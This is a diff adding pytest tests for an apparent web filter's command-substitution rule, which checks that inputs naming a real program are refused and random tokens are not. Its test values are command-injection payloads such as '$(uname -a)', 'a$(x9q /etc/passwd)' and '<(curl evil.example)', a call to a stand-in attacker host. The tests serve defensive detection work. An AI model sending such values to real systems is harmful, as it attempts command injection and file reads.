@@ -452,3 +452,40 @@ def test_a_bracket_split_by_the_shell_is_no_glob(rce_edge, value):
 @pytest.mark.parametrize("value", GLOB_RUNS)
 def test_a_bracket_within_a_word_is_a_glob(rce_edge, value):
     assert glob_hit(rce_edge, value), value
+
+
+# What a substitution runs first is a program: a name no system has runs
+# nothing ("command not found"), so "$(wa9lnalm.dl)" of a random token is
+# no injection; a name of the vocabulary, a path, a built word, or any
+# name given an option or a path is one.
+SUBSTITUTION_NO_PROGRAM = ["x$(wa9lnalm.dl)f|(v", "q$(m_wj h!wfn)]w", "7<(ec>pjx2a",
+                           "a$(tckv;u;ui&imq"]
+SUBSTITUTION_PROGRAM = ["x$(uname -a)", "$(printf '\\151\\144')", "a$(mytool -x 1)",
+                        "a$(x9q /etc/passwd)", "$(/tmp/x)", "$(./run.sh)",
+                        "$(busybox id)", "$(python3.11 -c 1)", "<(curl evil.example)"]
+
+
+def substitution_hit(edge, value):
+    status, rid = send_note(edge, value)
+    return status == 403 and "rce-substitution" in rce_rules(edge, rid)
+
+
+@pytest.mark.parametrize("value", SUBSTITUTION_NO_PROGRAM)
+def test_a_substitution_of_no_program_runs_nothing(rce_edge, value):
+    assert not substitution_hit(rce_edge, value), value
+
+
+@pytest.mark.parametrize("value", SUBSTITUTION_PROGRAM)
+def test_a_substitution_of_a_program_is_refused(rce_edge, value):
+    # (by rce-substitution, or by rce-command when the name is one it
+    # knows: the first refusal ends the audit)
+    assert_blocked_by_rce(rce_edge, value)
+
+
+def test_random_tokens_hold_fewer_substitutions(rce_edge):
+    # seeded tokens as above: 13 of these 120 held a substitution while
+    # any name was taken for a program, 11 still do (most of them a
+    # "$" or "`" inside "${...}", and "<('...")
+    hits = sum(substitution_hit(rce_edge, token)
+               for token in random_tokens(20261203, 120))
+    assert hits <= 11, hits
